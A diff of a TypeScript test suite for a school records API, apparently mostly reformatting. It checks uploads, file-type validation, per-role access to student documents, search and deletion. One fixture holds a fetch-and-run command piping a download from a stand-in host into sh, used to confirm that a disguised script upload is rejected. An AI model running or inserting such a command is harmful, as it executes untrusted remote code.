@@ -12,10 +12,12 @@ import ExcelJS from 'exceljs';
 import { makeFaculty, makeParent, makeStudent } from './helpers/academic.js';
 import { type App, buildTestApp, call } from './helpers/app.js';
 import { expectError, expectStatus } from './helpers/assert.js';
-import { makeUser, makeWorld } from './helpers/factories.js';
 import { streamUpload, upload } from './helpers/documents.js';
+import { makeUser, makeWorld } from './helpers/factories.js';
 
-const PDF = Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n');
+const PDF = Buffer.from(
+  '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
+);
 const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64, 7)]);
 const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
 
@@ -59,13 +61,18 @@ describe('documents', () => {
     parentA = await makeParent(app, w.org, [a.id]);
     parentB = await makeParent(app, w.org, [b.id]);
     nobody = await makeUser(app, w.org, null);
-    const res = await upload(app, staff.token, { content: PDF, filename: 'transcript 2026 — Ana.pdf', type: 'application/pdf' }, {
-      title: 'Transcript',
-      document_type: 'transcript',
-      related_entity_type: 'student',
-      related_entity_id: a.id,
-      tags: 'academic, 2026',
-    });
+    const res = await upload(
+      app,
+      staff.token,
+      { content: PDF, filename: 'transcript 2026 — Ana.pdf', type: 'application/pdf' },
+      {
+        title: 'Transcript',
+        document_type: 'transcript',
+        related_entity_type: 'student',
+        related_entity_id: a.id,
+        tags: 'academic, 2026',
+      },
+    );
     expectStatus(res, 201);
     docA = res.data.data;
   });
@@ -76,7 +83,12 @@ describe('documents', () => {
 
   describe('POST /documents/upload', () => {
     it('should store the file with its checked type and SHA-256, never exposing the storage key', async () => {
-      const res = await upload(app, staff.token, { content: PDF, filename: 'report.pdf' }, { title: 'Report', is_public: 'true' });
+      const res = await upload(
+        app,
+        staff.token,
+        { content: PDF, filename: 'report.pdf' },
+        { title: 'Report', is_public: 'true' },
+      );
       expectStatus(res, 201);
       const d = res.data.data;
       assert.equal(d.content_type, 'application/pdf');
@@ -85,8 +97,15 @@ describe('documents', () => {
       assert.equal(d.is_public, true);
       assert.equal(d.organization_id, w.org.id);
       assert.ok(!/storage|documents\/20|\.tmp/i.test(res.body), res.body);
-      assert.deepEqual(await app.deps.db.execute(`select count(*)::int as n from documents where id = '${d.id}'`).then((r) => r.rows[0].n), 1);
-      const audit = await app.deps.db.execute(`select action, after::text as after from audit_logs where entity_id = '${d.id}'`);
+      assert.deepEqual(
+        await app.deps.db
+          .execute(`select count(*)::int as n from documents where id = '${d.id}'`)
+          .then((r) => r.rows[0].n),
+        1,
+      );
+      const audit = await app.deps.db.execute(
+        `select action, after::text as after from audit_logs where entity_id = '${d.id}'`,
+      );
       assert.equal(audit.rows[0].action, 'upload');
       assert.ok(!String(audit.rows[0].after).includes('storage'));
     });
@@ -97,41 +116,101 @@ describe('documents', () => {
       const xlsx = Buffer.from(await wb.xlsx.writeBuffer());
       const x = await upload(app, staff.token, { content: xlsx, filename: 'marks.xlsx' });
       expectStatus(x, 201);
-      assert.equal(x.data.data.content_type, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
-      const c = await upload(app, staff.token, { content: Buffer.from('name,grade\nÁna,A\n'), filename: 'grades.csv' });
+      assert.equal(
+        x.data.data.content_type,
+        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+      );
+      const c = await upload(app, staff.token, {
+        content: Buffer.from('name,grade\nÁna,A\n'),
+        filename: 'grades.csv',
+      });
       expectStatus(c, 201);
       assert.equal(c.data.data.content_type, 'text/csv; charset=utf-8');
     });
     it('should refuse a shell script named evil.pdf (415), by content', async () => {
       const before = await files(filesDir);
-      const res = await upload(app, staff.token, { content: SCRIPT, filename: 'evil.pdf', type: 'application/pdf' });
+      const res = await upload(app, staff.token, {
+        content: SCRIPT,
+        filename: 'evil.pdf',
+        type: 'application/pdf',
+      });
       expectError(res, 415, 'unsupported_media_type');
       assert.deepEqual(await files(filesDir), before);
     });
     it('should refuse a disallowed extension, a PNG named .pdf, and binary bytes named .txt (415)', async () => {
       expectError(await upload(app, staff.token, { content: SCRIPT, filename: 'run.sh' }), 415);
       expectError(await upload(app, staff.token, { content: PNG, filename: 'photo.pdf' }), 415);
-      expectError(await upload(app, staff.token, { content: Buffer.from([0x68, 0x69, 0x00, 0x01]), filename: 'notes.txt' }), 415);
-      expectError(await upload(app, staff.token, { content: Buffer.from([0xc3, 0x28, 0x41]), filename: 'bad.txt' }), 415);
+      expectError(
+        await upload(app, staff.token, {
+          content: Buffer.from([0x68, 0x69, 0x00, 0x01]),
+          filename: 'notes.txt',
+        }),
+        415,
+      );
+      expectError(
+        await upload(app, staff.token, { content: Buffer.from([0xc3, 0x28, 0x41]), filename: 'bad.txt' }),
+        415,
+      );
       expectError(await upload(app, staff.token, { content: PDF, filename: 'x.exe.pdf.exe' }), 415);
     });
     it('should answer 400 for no file, a bad field or an unknown field, and leave no file behind', async () => {
       const before = await files(filesDir);
       expectError(await upload(app, staff.token, null, { title: 'x' }), 400);
-      expectError(await upload(app, staff.token, { content: PDF, filename: 'a.pdf' }, { is_public: 'perhaps' }), 400);
-      expectError(await upload(app, staff.token, { content: PDF, filename: 'a.pdf' }, { related_entity_type: 'planet', related_entity_id: a.id }), 400);
-      expectError(await upload(app, staff.token, { content: PDF, filename: 'a.pdf' }, { storage_key: 'x' }), 400);
-      expectError(await upload(app, staff.token, { content: PDF, filename: 'a.pdf' }, { related_entity_type: 'student' }), 400);
-      expectError(await call(app, 'POST', '/api/v1/documents/upload', { token: staff.token, body: { title: 'json' } }), 400);
+      expectError(
+        await upload(app, staff.token, { content: PDF, filename: 'a.pdf' }, { is_public: 'perhaps' }),
+        400,
+      );
+      expectError(
+        await upload(
+          app,
+          staff.token,
+          { content: PDF, filename: 'a.pdf' },
+          { related_entity_type: 'planet', related_entity_id: a.id },
+        ),
+        400,
+      );
+      expectError(
+        await upload(app, staff.token, { content: PDF, filename: 'a.pdf' }, { storage_key: 'x' }),
+        400,
+      );
+      expectError(
+        await upload(
+          app,
+          staff.token,
+          { content: PDF, filename: 'a.pdf' },
+          { related_entity_type: 'student' },
+        ),
+        400,
+      );
+      expectError(
+        await call(app, 'POST', '/api/v1/documents/upload', { token: staff.token, body: { title: 'json' } }),
+        400,
+      );
       assert.deepEqual(await files(filesDir), before);
     });
     it('should answer 401, 403 (parent) and 404 (a record out of scope)', async () => {
       expectError(await upload(app, undefined, { content: PDF, filename: 'a.pdf' }), 401);
       expectError(await upload(app, parentA.token, { content: PDF, filename: 'a.pdf' }), 403);
       const other = await makeStudent(app, w.otherOrg);
-      expectError(await upload(app, staff.token, { content: PDF, filename: 'a.pdf' }, { related_entity_type: 'student', related_entity_id: other.id }), 404);
+      expectError(
+        await upload(
+          app,
+          staff.token,
+          { content: PDF, filename: 'a.pdf' },
+          { related_entity_type: 'student', related_entity_id: other.id },
+        ),
+        404,
+      );
       // A student may attach only to their own record.
-      expectError(await upload(app, b.token, { content: PDF, filename: 'a.pdf' }, { related_entity_type: 'student', related_entity_id: a.id }), 404);
+      expectError(
+        await upload(
+          app,
+          b.token,
+          { content: PDF, filename: 'a.pdf' },
+          { related_entity_type: 'student', related_entity_id: a.id },
+        ),
+        404,
+      );
     });
     it('should refuse an 11 MB upload with 413 while streaming, with memory growing far less than the file', async () => {
       await app.listen({ port: 0, host: '127.0.0.1' });
@@ -171,11 +250,18 @@ describe('documents', () => {
     it('should give a document of student A to A and A’s parent, and 404 to B and B’s parent', async () => {
       for (const t of [a.token, parentA.token, staff.token, w.admin.token]) {
         expectStatus(await call(app, 'GET', `/api/v1/documents/${docA.id}`, { token: t }), 200);
-        const dl = await app.inject({ method: 'GET', url: `/api/v1/documents/${docA.id}/download`, headers: { authorization: `Bearer ${t}` } });
+        const dl = await app.inject({
+          method: 'GET',
+          url: `/api/v1/documents/${docA.id}/download`,
+          headers: { authorization: `Bearer ${t}` },
+        });
         expectStatus(dl, 200);
         assert.deepEqual(dl.rawPayload, PDF);
         assert.equal(dl.headers['content-type'], 'application/pdf');
-        assert.match(String(dl.headers['content-disposition']), /^attachment; filename="transcript 2026 _ Ana\.pdf"; filename\*=UTF-8''transcript%202026%20%E2%80%94%20Ana\.pdf$/);
+        assert.match(
+          String(dl.headers['content-disposition']),
+          /^attachment; filename="transcript 2026 _ Ana\.pdf"; filename\*=UTF-8''transcript%202026%20%E2%80%94%20Ana\.pdf$/,
+        );
       }
       for (const t of [b.token, parentB.token, w.otherAdmin.token]) {
         expectError(await call(app, 'GET', `/api/v1/documents/${docA.id}`, { token: t }), 404);
@@ -183,10 +269,20 @@ describe('documents', () => {
       }
     });
     it('should give public documents to members of the organization only', async () => {
-      const pub = (await upload(app, staff.token, { content: PDF, filename: 'rules.pdf' }, { title: 'House rules', is_public: 'true' })).data.data;
+      const pub = (
+        await upload(
+          app,
+          staff.token,
+          { content: PDF, filename: 'rules.pdf' },
+          { title: 'House rules', is_public: 'true' },
+        )
+      ).data.data;
       expectStatus(await call(app, 'GET', `/api/v1/documents/${pub.id}/download`, { token: b.token }), 200);
       expectStatus(await call(app, 'GET', `/api/v1/documents/${pub.id}`, { token: parentB.token }), 200);
-      expectError(await call(app, 'GET', `/api/v1/documents/${pub.id}/download`, { token: w.otherAdmin.token }), 404);
+      expectError(
+        await call(app, 'GET', `/api/v1/documents/${pub.id}/download`, { token: w.otherAdmin.token }),
+        404,
+      );
     });
     it('GET /documents/{id}(/download) should answer 400, 401 and 403', async () => {
       expectError(await call(app, 'GET', '/api/v1/documents/nope', { token: staff.token }), 400);
@@ -194,49 +290,97 @@ describe('documents', () => {
       expectError(await call(app, 'GET', `/api/v1/documents/${docA.id}`), 401);
       expectError(await call(app, 'GET', `/api/v1/documents/${docA.id}/download`), 401);
       expectError(await call(app, 'GET', `/api/v1/documents/${docA.id}`, { token: nobody.token }), 403);
-      expectError(await call(app, 'GET', `/api/v1/documents/${docA.id}/download`, { token: nobody.token }), 403);
+      expectError(
+        await call(app, 'GET', `/api/v1/documents/${docA.id}/download`, { token: nobody.token }),
+        403,
+      );
     });
     it('GET /documents should list readable documents with filters', async () => {
-      const mine = await call(app, 'GET', '/api/v1/documents', { token: a.token, query: { student_id: a.id } });
+      const mine = await call(app, 'GET', '/api/v1/documents', {
+        token: a.token,
+        query: { student_id: a.id },
+      });
       expectStatus(mine, 200);
-      assert.deepEqual(mine.data.data.map((d: { id: string }) => d.id), [docA.id]);
-      const byType = await call(app, 'GET', '/api/v1/documents', { token: staff.token, query: { document_type: 'transcript', tag: 'academic', user_id: staff.id } });
-      assert.deepEqual(byType.data.data.map((d: { id: string }) => d.id), [docA.id]);
+      assert.deepEqual(
+        mine.data.data.map((d: { id: string }) => d.id),
+        [docA.id],
+      );
+      const byType = await call(app, 'GET', '/api/v1/documents', {
+        token: staff.token,
+        query: { document_type: 'transcript', tag: 'academic', user_id: staff.id },
+      });
+      assert.deepEqual(
+        byType.data.data.map((d: { id: string }) => d.id),
+        [docA.id],
+      );
       const bs = await call(app, 'GET', '/api/v1/documents', { token: b.token, query: { student_id: a.id } });
       assert.equal(bs.data.meta.total, 0);
       const foreign = await call(app, 'GET', '/api/v1/documents', { token: w.otherAdmin.token });
       assert.equal(foreign.data.meta.total, 0);
-      expectError(await call(app, 'GET', '/api/v1/documents', { token: staff.token, query: { page_size: 0 } }), 400);
+      expectError(
+        await call(app, 'GET', '/api/v1/documents', { token: staff.token, query: { page_size: 0 } }),
+        400,
+      );
       expectError(await call(app, 'GET', '/api/v1/documents'), 401);
       expectError(await call(app, 'GET', '/api/v1/documents', { token: nobody.token }), 403);
     });
     it('GET /documents/search should match title, description, file name and tags in scope', async () => {
-      const s = await call(app, 'GET', '/api/v1/documents/search', { token: parentA.token, query: { q: 'TRANSCRIPT' } });
+      const s = await call(app, 'GET', '/api/v1/documents/search', {
+        token: parentA.token,
+        query: { q: 'TRANSCRIPT' },
+      });
       expectStatus(s, 200);
-      assert.deepEqual(s.data.data.map((d: { id: string }) => d.id), [docA.id]);
-      const tag = await call(app, 'GET', '/api/v1/documents/search', { token: staff.token, query: { q: 'academic' } });
+      assert.deepEqual(
+        s.data.data.map((d: { id: string }) => d.id),
+        [docA.id],
+      );
+      const tag = await call(app, 'GET', '/api/v1/documents/search', {
+        token: staff.token,
+        query: { q: 'academic' },
+      });
       assert.ok(tag.data.data.some((d: { id: string }) => d.id === docA.id));
-      const none = await call(app, 'GET', '/api/v1/documents/search', { token: parentB.token, query: { q: 'transcript' } });
+      const none = await call(app, 'GET', '/api/v1/documents/search', {
+        token: parentB.token,
+        query: { q: 'transcript' },
+      });
       assert.deepEqual(none.data.data, []);
       expectError(await call(app, 'GET', '/api/v1/documents/search', { token: staff.token }), 400);
       expectError(await call(app, 'GET', '/api/v1/documents/search', { query: { q: 'x' } }), 401);
-      expectError(await call(app, 'GET', '/api/v1/documents/search', { token: nobody.token, query: { q: 'x' } }), 403);
+      expectError(
+        await call(app, 'GET', '/api/v1/documents/search', { token: nobody.token, query: { q: 'x' } }),
+        403,
+      );
     });
     it('GET /students/{id}/documents and /students/me/documents', async () => {
       const byParent = await call(app, 'GET', `/api/v1/students/${a.id}/documents`, { token: parentA.token });
       expectStatus(byParent, 200);
-      assert.deepEqual(byParent.data.data.map((d: { id: string }) => d.id), [docA.id]);
-      expectError(await call(app, 'GET', `/api/v1/students/${a.id}/documents`, { token: parentB.token }), 404);
-      expectError(await call(app, 'GET', `/api/v1/students/${a.id}/documents`, { token: w.otherAdmin.token }), 404);
+      assert.deepEqual(
+        byParent.data.data.map((d: { id: string }) => d.id),
+        [docA.id],
+      );
+      expectError(
+        await call(app, 'GET', `/api/v1/students/${a.id}/documents`, { token: parentB.token }),
+        404,
+      );
+      expectError(
+        await call(app, 'GET', `/api/v1/students/${a.id}/documents`, { token: w.otherAdmin.token }),
+        404,
+      );
       expectError(await call(app, 'GET', '/api/v1/students/x/documents', { token: staff.token }), 400);
       expectError(await call(app, 'GET', `/api/v1/students/${a.id}/documents`), 401);
       expectError(await call(app, 'GET', `/api/v1/students/${a.id}/documents`, { token: nobody.token }), 403);
       const me = await call(app, 'GET', '/api/v1/students/me/documents', { token: a.token });
       expectStatus(me, 200);
-      assert.deepEqual(me.data.data.map((d: { id: string }) => d.id), [docA.id]);
+      assert.deepEqual(
+        me.data.data.map((d: { id: string }) => d.id),
+        [docA.id],
+      );
       const bMe = await call(app, 'GET', '/api/v1/students/me/documents', { token: b.token });
       assert.equal(bMe.data.meta.total, 0);
-      expectError(await call(app, 'GET', '/api/v1/students/me/documents', { token: a.token, query: { page: 0 } }), 400);
+      expectError(
+        await call(app, 'GET', '/api/v1/students/me/documents', { token: a.token, query: { page: 0 } }),
+        400,
+      );
       expectError(await call(app, 'GET', '/api/v1/students/me/documents'), 401);
       expectError(await call(app, 'GET', '/api/v1/students/me/documents', { token: parentA.token }), 403);
       const profileless = await makeUser(app, w.org, 'student');
@@ -254,14 +398,18 @@ describe('documents', () => {
       expectError(await call(app, 'GET', `/api/v1/documents/${d.id}`, { token: a.token }), 404);
     });
     it('should answer 400, 401, 403 (a reader who is not the owner) and 404', async () => {
-      const pub = (await upload(app, staff.token, { content: PDF, filename: 'p.pdf' }, { is_public: 'true' })).data.data;
+      const pub = (await upload(app, staff.token, { content: PDF, filename: 'p.pdf' }, { is_public: 'true' }))
+        .data.data;
       const teacher = await makeFaculty(app, w.org);
       expectError(await call(app, 'DELETE', '/api/v1/documents/x', { token: staff.token }), 400);
       expectError(await call(app, 'DELETE', `/api/v1/documents/${pub.id}`), 401);
       expectError(await call(app, 'DELETE', `/api/v1/documents/${pub.id}`, { token: teacher.token }), 403);
       expectError(await call(app, 'DELETE', `/api/v1/documents/${pub.id}`, { token: parentA.token }), 403);
       expectError(await call(app, 'DELETE', `/api/v1/documents/${docA.id}`, { token: b.token }), 404);
-      expectError(await call(app, 'DELETE', `/api/v1/documents/${pub.id}`, { token: w.otherAdmin.token }), 404);
+      expectError(
+        await call(app, 'DELETE', `/api/v1/documents/${pub.id}`, { token: w.otherAdmin.token }),
+        404,
+      );
       // The records office may delete what others uploaded.
       expectStatus(await call(app, 'DELETE', `/api/v1/documents/${pub.id}`, { token: w.admin.token }), 204);
     });
